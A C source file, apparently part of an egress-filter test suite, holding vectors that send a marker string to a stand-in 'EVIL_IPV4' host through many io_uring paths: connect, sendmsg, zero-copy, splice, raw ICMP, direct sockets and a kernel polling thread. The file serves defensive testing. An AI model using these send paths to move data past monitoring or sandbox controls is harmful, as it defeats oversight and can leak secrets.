// SPDX-License-Identifier: MIT
/* io_uring, by bare system calls: what is sent is sent by the process, by a thread of the kernel or by a polling one.
 */
#include "egress.h"

#include <errno.h>
#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define ENTRIES 4

struct ring {
	int fd;
	bool polled;
	unsigned int *submit_tail, *submit_mask, *submit_array, *submit_flags;
	unsigned int *complete_head, *complete_tail, *complete_mask;
	struct io_uring_sqe *submissions;
	struct io_uring_cqe *completions;
};

static struct ring open_ring(unsigned int flags)
{
	struct io_uring_params given = {.flags = flags, .sq_thread_idle = 1000};
	struct ring ring = {.polled = flags & IORING_SETUP_SQPOLL};
	size_t submit_size, complete_size;
	char *submit, *complete;

	ring.fd = syscall(SYS_io_uring_setup, ENTRIES, &given);
	if (ring.fd < 0 && errno == ENOSYS)
		absent("io_uring_setup");
	step("io_uring_setup", ring.fd);
	submit_size = given.sq_off.array + given.sq_entries * sizeof(unsigned int);
	complete_size = given.cq_off.cqes + given.cq_entries * sizeof(struct io_uring_cqe);
	submit =
		mmap(NULL, submit_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQ_RING);
	complete = mmap(NULL, complete_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd,
			IORING_OFF_CQ_RING);
	ring.submissions = mmap(NULL, given.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
				MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQES);
	if (submit == MAP_FAILED || complete == MAP_FAILED || ring.submissions == MAP_FAILED)
		step("mmap", -1);
	ring.submit_tail = (void *)(submit + given.sq_off.tail);
	ring.submit_mask = (void *)(submit + given.sq_off.ring_mask);
	ring.submit_array = (void *)(submit + given.sq_off.array);
	ring.submit_flags = (void *)(submit + given.sq_off.flags);
	ring.complete_head = (void *)(complete + given.cq_off.head);
	ring.complete_tail = (void *)(complete + given.cq_off.tail);
	ring.complete_mask = (void *)(complete + given.cq_off.ring_mask);
	ring.completions = (void *)(complete + given.cq_off.cqes);
	return ring;
}

/* Has one operation done, and returns its result in the manner of a system call. */
static int perform(struct ring *ring, const struct io_uring_sqe *operation)
{
	unsigned int tail = *ring->submit_tail, head = *ring->complete_head, slot = tail & *ring->submit_mask;
	unsigned int flags = IORING_ENTER_GETEVENTS;
	int result;

	ring->submissions[slot] = *operation;
	ring->submit_array[slot] = slot;
	__atomic_store_n(ring->submit_tail, tail + 1, __ATOMIC_SEQ_CST);
	if (ring->polled && __atomic_load_n(ring->submit_flags, __ATOMIC_SEQ_CST) & IORING_SQ_NEED_WAKEUP)
		flags |= IORING_ENTER_SQ_WAKEUP;
	step("io_uring_enter", syscall(SYS_io_uring_enter, ring->fd, ring->polled ? 0 : 1, 1, flags, NULL, 0));
	if (__atomic_load_n(ring->complete_tail, __ATOMIC_ACQUIRE) == head) {
		errno = ETIME;
		return -1;
	}
	result = ring->completions[head & *ring->complete_mask].res;
	__atomic_store_n(ring->complete_head, head + 1, __ATOMIC_RELEASE);
	if (result >= 0)
		return result;
	errno = -result;
	return -1;
}

/* For an operation that a kernel may not know. */
static int perform_known(struct ring *ring, const struct io_uring_sqe *operation, const char *what)
{
	int result = perform(ring, operation);

	if (result < 0 && errno == EINVAL)
		absent(what);
	return step(what, result);
}

static void connect_by(unsigned int ring_flags, unsigned char flags)
{
	struct ring ring = open_ring(ring_flags);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_CONNECT,
		.flags = flags,
		.fd = open_socket(AF_INET, SOCK_STREAM, 0),
		.addr = (unsigned long)&destination,
		.off = sizeof(destination),
	};

	step("connect", perform(&ring, &operation));
}

static void uring_connect(int)
{
	connect_by(0, 0);
}

static void uring_connect_async(int)
{
	connect_by(0, IOSQE_ASYNC);
}

static void uring_connect_polled(int)
{
	connect_by(IORING_SETUP_SQPOLL, 0);
}

static void message_by(unsigned int ring_flags, unsigned char flags, unsigned char opcode, const char *address)
{
	struct ring ring = open_ring(ring_flags);
	struct sockaddr_in destination = ipv4(address);
	struct iovec payload = {self.marker, strlen(self.marker)};
	struct msghdr message = {
		.msg_name = &destination,
		.msg_namelen = sizeof(destination),
		.msg_iov = &payload,
		.msg_iovlen = 1,
	};
	struct io_uring_sqe operation = {
		.opcode = opcode,
		.flags = flags,
		.fd = open_socket(AF_INET, SOCK_DGRAM, 0),
		.addr = (unsigned long)&message,
		.len = 1,
	};

	perform_known(&ring, &operation, "sendmsg");
}

static void uring_sendmsg(int)
{
	message_by(0, 0, IORING_OP_SENDMSG, EVIL_IPV4);
}

static void uring_sendmsg_ok(int)
{
	message_by(0, 0, IORING_OP_SENDMSG, OK_IPV4);
}

static void uring_sendmsg_async(int)
{
	message_by(0, IOSQE_ASYNC, IORING_OP_SENDMSG, EVIL_IPV4);
}

static void uring_sendmsg_polled(int)
{
	message_by(IORING_SETUP_SQPOLL, 0, IORING_OP_SENDMSG, EVIL_IPV4);
}

static void uring_sendmsg_zerocopy(int)
{
	message_by(0, 0, IORING_OP_SENDMSG_ZC, EVIL_IPV4);
}

/* A send with an address of its own, which came with sending without a copy. */
static void uring_send_zerocopy(int)
{
	struct ring ring = open_ring(0);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_SEND_ZC,
		.fd = open_socket(AF_INET, SOCK_DGRAM, 0),
		.addr = (unsigned long)self.marker,
		.len = strlen(self.marker),
		.addr2 = (unsigned long)&destination,
		.addr_len = sizeof(destination),
	};

	perform_known(&ring, &operation, "send");
}

static int connected(void)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	connect_ipv4(fd, EVIL_IPV4);
	return fd;
}

static void uring_send(int fd)
{
	struct ring ring = open_ring(0);
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_SEND,
		.fd = fd,
		.addr = (unsigned long)self.marker,
		.len = strlen(self.marker),
	};

	step("send", perform(&ring, &operation));
}

static void uring_write(int fd)
{
	struct ring ring = open_ring(0);
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_WRITE,
		.fd = fd,
		.addr = (unsigned long)self.marker,
		.len = strlen(self.marker),
	};

	step("write", perform(&ring, &operation));
}

static void uring_splice(int fd)
{
	struct ring ring = open_ring(0);
	int ends[2];
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_SPLICE,
		.fd = fd,
		.len = strlen(self.marker),
		.off = -1,
		.splice_off_in = -1,
	};

	step("pipe", pipe(ends));
	step("write", write(ends[1], self.marker, strlen(self.marker)));
	operation.splice_fd_in = ends[0];
	step("splice", perform(&ring, &operation));
}

/* A socket that has failed to send opens a connection with the data. */
static void again_by(unsigned int ring_flags, unsigned char flags)
{
	struct ring ring = open_ring(ring_flags);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	struct iovec payload = {self.marker, strlen(self.marker)};
	struct msghdr message = {
		.msg_name = &destination,
		.msg_namelen = sizeof(destination),
		.msg_iov = &payload,
		.msg_iovlen = 1,
	};
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_SEND,
		.flags = flags,
		.fd = open_socket(AF_INET, SOCK_STREAM, 0),
		.addr = (unsigned long)self.marker,
		.len = strlen(self.marker),
		.msg_flags = MSG_NOSIGNAL,
	};

	note("send", perform(&ring, &operation));
	operation.opcode = IORING_OP_SENDMSG;
	operation.addr = (unsigned long)&message;
	operation.len = 1;
	operation.msg_flags = MSG_FASTOPEN | MSG_NOSIGNAL;
	step("sendmsg", perform(&ring, &operation));
}

static void uring_again(int)
{
	again_by(0, 0);
}

static void uring_again_async(int)
{
	again_by(0, IOSQE_ASYNC);
}

static void uring_again_polled(int)
{
	again_by(IORING_SETUP_SQPOLL, 0);
}

static int socket_by(struct ring *ring, int family, int type, int protocol)
{
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_SOCKET,
		.fd = family,
		.off = type,
		.len = protocol,
	};

	return perform_known(ring, &operation, "socket");
}

static void uring_socket_raw(int)
{
	struct ring ring = open_ring(0);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	int fd = socket_by(&ring, AF_INET, SOCK_RAW, IPPROTO_ICMP);
	unsigned char packet[64] = {8};

	memcpy(packet + 8, self.marker, strlen(self.marker));
	destination.sin_port = 0;
	step("sendto",
	     sendto(fd, packet, 8 + strlen(self.marker), 0, (struct sockaddr *)&destination, sizeof(destination)));
}

/* A socket without a descriptor: it only has a place in the ring's own table. */
static void uring_socket_direct(int)
{
	struct ring ring = open_ring(0);
	int table[1] = {-1};
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	struct io_uring_sqe open = {
		.opcode = IORING_OP_SOCKET,
		.fd = AF_INET,
		.off = SOCK_STREAM,
		.file_index = 1,
	};
	struct io_uring_sqe operation = {
		.opcode = IORING_OP_CONNECT,
		.flags = IOSQE_FIXED_FILE,
		.fd = 0,
		.addr = (unsigned long)&destination,
		.off = sizeof(destination),
	};

	step("io_uring_register", syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, table, 1));
	perform_known(&ring, &open, "socket");
	step("connect", perform(&ring, &operation));
}

const struct vector uring_vectors[] = {
	{"uring_connect", uring_connect},
	{"uring_connect_async", uring_connect_async},
	{"uring_connect_polled", uring_connect_polled},
	{"uring_sendmsg", uring_sendmsg},
	{"uring_sendmsg_ok", uring_sendmsg_ok},
	{"uring_sendmsg_async", uring_sendmsg_async},
	{"uring_sendmsg_polled", uring_sendmsg_polled},
	{"uring_sendmsg_zerocopy", uring_sendmsg_zerocopy},
	{"uring_send_zerocopy", uring_send_zerocopy},
	{"uring_send", uring_send, connected},
	{"uring_write", uring_write, connected},
	{"uring_splice", uring_splice, connected},
	{"uring_again", uring_again},
	{"uring_again_async", uring_again_async},
	{"uring_again_polled", uring_again_polled},
	{"uring_socket_raw", uring_socket_raw},
	{"uring_socket_direct", uring_socket_direct},
	{},
};
